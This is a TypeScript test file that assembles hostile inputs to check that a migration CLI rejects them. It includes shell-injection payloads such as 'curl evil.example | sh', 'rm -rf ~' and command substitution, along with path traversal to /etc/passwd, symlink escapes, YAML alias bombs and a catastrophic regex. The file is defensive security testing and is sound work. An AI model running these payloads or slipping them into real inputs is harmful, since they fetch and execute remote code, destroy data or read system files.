// Hostile plans, inventories, rules and output trees for `migrate plan` and `migrate convert`; with the
// discovery cases, the whole corpus.

import { readFileSync } from 'node:fs';
import { expect } from 'vitest';
import type { Plan } from '../../src/model/plan.js';
import { runCli } from '../support/cli.js';
import { type HostileCase, writeBaseRepo } from './case.js';
import { ALIAS_BOMBS, DISCOVER_CASES } from './cases-discover.js';
import { Sandbox } from './sandbox.js';

let basePlan: Plan;
let baseInventory: string;

/** Discover and plan the base estate once; cases mutate copies of the plan. */
export async function prepareBasePlan(): Promise<void> {
  const sb = new Sandbox();
  try {
    writeBaseRepo(sb);
    const opts = { cwd: sb.p('work'), env: { NO_COLOR: '1' } };
    expect((await runCli(['discover', '--template', '../repo/template.yaml', '--out', 'inventory.json', '--json'], opts)).code).toBe(0);
    expect((await runCli(['plan', '--inventory', 'inventory.json', '--out-dir', '.', '--json'], opts)).code).toBe(0);
    basePlan = JSON.parse(readFileSync(sb.p('work/plan.json'), 'utf8')) as Plan;
    baseInventory = readFileSync(sb.p('work/inventory.json'), 'utf8');
  } finally {
    sb.remove();
  }
}

const clone = (): Plan => JSON.parse(JSON.stringify(basePlan)) as Plan;
const convertArgs = (sb: Sandbox, ...extra: string[]) => ['convert', '--plan', sb.p('work/plan.json'), '--out-dir', sb.p('out/gen'), ...extra];

function planCase(id: string, mutate: (p: Plan, sb: Sandbox) => void, line: RegExp, extra?: (sb: Sandbox) => void): HostileCase {
  return {
    id,
    arrange: (sb) => {
      writeBaseRepo(sb);
      extra?.(sb);
      const p = clone();
      mutate(p, sb);
      sb.write('work/plan.json', JSON.stringify(p));
    },
    argv: (sb) => convertArgs(sb),
    exit: 2,
    line,
  };
}

type Resource = Plan['apps'][number]['resources'][number];
const resource = (p: Plan, kind: Resource['kind']) => p.apps[0]!.resources.find((r) => r.kind === kind) as Record<string, unknown>;
const entry = (p: Plan, f: number, e: number) => p.apps[0]!.functions[f]!.entries[e]!;

/** Plan fields that end up in names, scripts or code, with how to reach them. */
const FIELDS: [string, RegExp, (p: Plan, v: string) => void][] = [
  ['blob-subscription-function-name', /apps\[0\]\.resources\[1\]\.functionName/, (p, v) => (resource(p, 'event-grid-blob-subscription').functionName = v)],
  ['blob-subscription-name', /apps\[0\]\.resources\[1\]\.name/, (p, v) => (resource(p, 'event-grid-blob-subscription').name = v)],
  ['blob-container', /apps\[0\]\.resources\[0\]\.name/, (p, v) => (resource(p, 'blob-container').name = v)],
  ['queue-name', /apps\[0\]\.resources\[2\]\.name/, (p, v) => (resource(p, 'storage-queue').name = v)],
  ['entry-name', /apps\[0\]\.functions\[0\]\.entries\[0\]\.name/, (p, v) => (entry(p, 0, 0).name = v)],
  ['http-route', /apps\[0\]\.functions\[0\]\.entries\[0\]\.trigger\.route/, (p, v) => ((entry(p, 0, 0).trigger as { route: string }).route = v)],
  ['http-method', /apps\[0\]\.functions\[0\]\.entries\[0\]\.trigger\.methods\[0\]/, (p, v) => ((entry(p, 0, 0).trigger as { methods: string[] }).methods = [v])],
  ['trigger-queue', /apps\[0\]\.functions\[0\]\.entries\[1\]\.trigger\.(queueName|connection)/, (p, v) => ((entry(p, 0, 1).trigger as { queueName: string }).queueName = v)],
  ['setting-name', /apps\[0\]\.settings\[0\]\.name/, (p, v) => (p.apps[0]!.settings[0]!.name = v)],
  ['identity-name', /apps\[0\]\.identity\.name/, (p, v) => (p.apps[0]!.identity.name = v)],
  ['runtime-version', /apps\[0\]\.runtime\.version/, (p, v) => (p.apps[0]!.runtime.version = v)],
  ['app-name', /apps\[0\]\.name/, (p, v) => (p.apps[0]!.name = v)],
];

const CONTROL = [
  ['newline', 'Thumb\nrm -rf ~'],
  ['nul', 'Thumb\u0000x'],
  ['escape', 'Thumb\u001b[2J'],
  ['carriage-return', 'Thumb\rx'],
];

/** Shell and naming payloads that are printable but break Azure's rules. */
const PAYLOADS = [
  ['command-substitution', '$(touch /tmp/pwned)'],
  ['backticks', '`id`'],
  ['quote-break', `x" ; curl evil.example | sh ; echo "`],
  ['single-quote-break', "x' ; id ; echo '"],
  ['spaces', 'two words'],
  ['too-long', 'a'.repeat(300)],
];

/** JSON files that are not JSON: exit 2 at line:column for plan.json and inventory.json alike. */
const BAD_JSON: [string, string][] = [
  ['empty', ''],
  ['whitespace-only', ' \n\t\n'],
  ['bom-garbage', '\uFEFFnope'],
  ['yaml', 'schemaVersion: 1\napps: []\n'],
  ['yaml-document-marker', '---\napps: []\n'],
  ['trailing-comma', '{"apps": [],}'],
  ['truncated', '{"apps": [{"name": "x"'],
  ['unexpected-token', '{"apps": [} ]'],
  ['single-quoted', "{'apps': []}"],
  ['nan', '{"n": NaN}'],
  ['trailing-garbage', '{}\n}'],
  ['deep-nesting', '['.repeat(100_000)],
];

/** Convert the base plan into out/gen after `prepare` has planted something hostile there. */
function outCase(id: string, prepare: (sb: Sandbox) => void, line: RegExp, ...extra: string[]): HostileCase {
  return {
    id,
    arrange: (sb) => {
      writeBaseRepo(sb);
      sb.write('work/plan.json', JSON.stringify(clone()));
      prepare(sb);
    },
    argv: (sb) => convertArgs(sb, ...extra),
    exit: 2,
    line,
  };
}

const OUT_CASES: HostileCase[] = [
  outCase('out/apps-links-outside', (sb) => sb.link('out/gen/apps', '@outside/victim'), /symbolic link that leaves the output directory: apps/),
  outCase('out/infra-links-outside', (sb) => sb.link('out/gen/infra', '@outside'), /leaves the output directory: infra/),
  outCase('out/file-links-outside', (sb) => sb.link('out/gen/azure.yaml', '@outside/secret.txt'), /leaves the output directory: azure\.yaml/),
  outCase(
    'out/manifest-delete-through-link',
    (sb) => {
      sb.link('out/gen/old', '@outside/victim');
      sb.write('out/gen/.migrate/manifest.json', JSON.stringify({ files: { 'old/keep.txt': '0'.repeat(64) } }));
    },
    /leaves the output directory: old/,
    '--force',
  ),
  outCase('out/out-dir-is-a-file', (sb) => sb.write('out/gen', 'x'), /is a file, not a directory/),
  outCase('out/fifo-at-output-file', (sb) => sb.fifo('out/gen/azure.yaml'), /azure\.yaml is not a regular file/),
  outCase('out/directory-at-output-file', (sb) => sb.write('out/gen/azure.yaml/x', 'x'), /azure\.yaml is a directory/),
  { id: 'out/out-dir-under-proc', arrange: (sb) => { writeBaseRepo(sb); sb.write('work/plan.json', JSON.stringify(clone())); }, argv: (sb) => ['convert', '--plan', sb.p('work/plan.json'), '--out-dir', '/proc/self/gen'], exit: 2, line: /pseudo filesystem/ },
  ...(
    [
      ['not-json', '{ nope', /manifest\.json:1:3: invalid JSON/],
      ['array', '[]', /manifest must be an object/],
      ['files-array', '{"files": []}', /manifest must be an object/],
      ['bad-hash', '{"files": {"a.txt": "x"}}', /invalid hash/],
      ['parent-path', `{"files": {"../outside/secret.txt": "${'0'.repeat(64)}"}}`, /outside the output directory/],
      ['absolute-path', `{"files": {"/etc/passwd": "${'0'.repeat(64)}"}}`, /outside the output directory/],
      ['empty', '', /manifest\.json:1:1: invalid JSON/],
    ] as const
  ).map(([name, text, line]) => outCase(`out/manifest-${name}`, (sb) => sb.write('out/gen/.migrate/manifest.json', text), line)),
  {
    id: 'out/stray-temp-file-is-drift-then-removed',
    arrange: (sb) => {
      writeBaseRepo(sb);
      sb.write('work/plan.json', JSON.stringify(clone()));
    },
    argv: (sb) => convertArgs(sb, '--json'),
    exit: 0,
    check: async (sb) => {
      const { writeFileSync } = await import('node:fs');
      writeFileSync(sb.p('out/gen/azure.yaml.4242.migrate.tmp'), 'partial');
      const opts = { cwd: sb.p('work'), env: { NO_COLOR: '1' } };
      const check = await runCli(convertArgs(sb, '--check', '--json'), opts);
      expect(check.code).toBe(1);
      expect(check.stdout).toContain('azure.yaml.4242.migrate.tmp');
      expect((await runCli(convertArgs(sb, '--json'), opts)).code).toBe(0);
      expect((await runCli(convertArgs(sb, '--check', '--json'), opts)).code).toBe(0);
    },
  },
  { id: 'plan-out/out-dir-is-a-file', arrange: (sb) => { sb.write('work/inventory.json', baseInventory); sb.write('out/plan', 'x'); }, argv: (sb) => ['plan', '--inventory', sb.p('work/inventory.json'), '--out-dir', sb.p('out/plan')], exit: 2, line: /is a file, not a directory/ },
  { id: 'plan-out/plan-json-is-a-fifo', arrange: (sb) => { sb.write('work/inventory.json', baseInventory); sb.fifo('out/plan.json'); }, argv: (sb) => ['plan', '--inventory', sb.p('work/inventory.json'), '--out-dir', sb.p('out')], exit: 2, line: /not a regular file/ },
];

const SOURCE_CASES: HostileCase[] = [
  planCase('source/handler-parent-climb', (p) => (p.apps[0]!.functions[1]!.handler!.file = '../outside/secret.mjs'), /handler\.file: .* points outside plan\.source\.root/),
  planCase('source/handler-absolute', (p) => (p.apps[0]!.functions[1]!.handler!.file = '/etc/passwd.js'), /points outside plan\.source\.root/),
  planCase('source/handler-drive-letter', (p) => (p.apps[0]!.functions[1]!.handler!.file = 'C:\\Windows\\x.js'), /points outside plan\.source\.root/),
  planCase('source/handler-not-source', (p) => (p.apps[0]!.functions[1]!.handler!.file = 'src/passwd'), /is not a nodejs source file/),
  planCase('source/code-dir-climb', (p) => (p.apps[0]!.functions[1]!.codeDir = '../..'), /codeDir: .* points outside plan\.source\.root/),
  planCase('source/root-absolute', (p) => (p.source.root = '/etc'), /source\.root: .* is absolute/),
  planCase('source/handler-links-outside', () => {}, /src\/thumb\.mjs: refusing to read a file that resolves outside the source root/, (sb) => {
    sb.unlink('repo/src/thumb.mjs');
    sb.link('repo/src/thumb.mjs', '@outside/secret.txt');
  }),
  planCase('source/handler-is-fifo', () => {}, /src\/thumb\.mjs: refusing to read a file that is not a regular file/, (sb) => {
    sb.unlink('repo/src/thumb.mjs');
    sb.fifo('repo/src/thumb.mjs');
  }),
];

const RULE_CASES: HostileCase[] = [
  ...(
    [
      ['catastrophic', '^(a+)+$', 0],
      ['backreference', '(a)\\\\1', 2],
      ['lookahead', '(?=a)b', 2],
      ['lookbehind', '(?<=a)b', 2],
      ['unbalanced', '(abc', 2],
      ['bad-range', '[z-a]', 2],
    ] as const
  ).map(([name, pattern, exit]): HostileCase => ({
    id: `rules/regex-${name}`,
    arrange: (sb) => {
      sb.write('work/inventory.json', baseInventory);
      sb.write('work/rules/custom.yaml', `area: governance\nrules:\n  - id: GOV-W901\n    title: Regex ${name}\n    severity: warning\n    subject: function\n    condition: { attr: name, op: matches, value: "${pattern}" }\n    message: "matched"\n    recommendation: none\n    docs: https://example.com\n    confidence: inferred\n`);
    },
    argv: (sb) => ['plan', '--inventory', sb.p('work/inventory.json'), '--out-dir', sb.p('out'), '--rules', sb.p('work/rules'), ...(exit === 0 ? ['--json'] : [])],
    exit,
    ...(exit === 2 ? { line: /custom\.yaml:7:\d+: rule GOV-W901: regex not accepted/ } : {}),
  })),
  ...ALIAS_BOMBS.map(([name, text]): HostileCase => ({
    id: `rules/alias-bomb-${name}`,
    arrange: (sb) => {
      sb.write('work/inventory.json', baseInventory);
      sb.write('work/rules/bomb.yaml', text);
    },
    argv: (sb) => ['plan', '--inventory', sb.p('work/inventory.json'), '--out-dir', sb.p('out'), '--rules', sb.p('work/rules')],
    exit: 2,
    line: /bomb\.yaml:\d+:\d+: YAML aliases expand beyond the limit/,
  })),
  ...ALIAS_BOMBS.map(([name, text]): HostileCase => ({
    id: `config/alias-bomb-${name}`,
    arrange: (sb) => {
      sb.write('work/inventory.json', baseInventory);
      sb.write('work/.migraterc.yaml', text);
    },
    argv: (sb) => ['plan', '--inventory', sb.p('work/inventory.json'), '--out-dir', sb.p('out')],
    exit: 2,
    line: /\.migraterc\.yaml:\d+:\d+: YAML aliases expand beyond the limit/,
  })),
  { id: 'rules/file-is-fifo', arrange: (sb) => { sb.write('work/inventory.json', baseInventory); sb.fifo('work/rules/x.yaml'); }, argv: (sb) => ['plan', '--inventory', sb.p('work/inventory.json'), '--out-dir', sb.p('out'), '--rules', sb.p('work/rules')], exit: 2, line: /not a regular file/ },
  { id: 'config/is-fifo', arrange: (sb) => { sb.write('work/inventory.json', baseInventory); sb.fifo('work/.migraterc.yaml'); }, argv: (sb) => ['plan', '--inventory', sb.p('work/inventory.json'), '--out-dir', sb.p('out')], exit: 2, line: /not a regular file/ },
];

export const CASES: HostileCase[] = [
  ...DISCOVER_CASES,
  ...BAD_JSON.map(([name, text]): HostileCase => ({ id: `plan-json/${name}`, arrange: (sb) => sb.write('work/plan.json', text), argv: (sb) => convertArgs(sb), exit: 2, line: /plan\.json:\d+:\d+: invalid JSON/ })),
  ...BAD_JSON.map(([name, text]): HostileCase => ({
    id: `inventory-json/${name}`,
    arrange: (sb) => sb.write('work/inventory.json', text),
    argv: (sb) => ['plan', '--inventory', sb.p('work/inventory.json'), '--out-dir', sb.p('out')],
    exit: 2,
    line: /inventory\.json:\d+:\d+: invalid JSON/,
  })),
  ...FIELDS.flatMap(([field, where, set]) => CONTROL.map(([name, value]) => planCase(`plan-control/${field}-${name}`, (p) => set(p, value!), where))),
  // A route is free text (quoted wherever it is used): only control characters are refused there.
  ...FIELDS.filter(([field]) => field !== 'http-route').flatMap(([field, where, set]) => PAYLOADS.map(([name, value]) => planCase(`plan-names/${field}-${name}`, (p) => set(p, value!), where))),
  ...SOURCE_CASES,
  ...OUT_CASES,
  ...RULE_CASES,
];
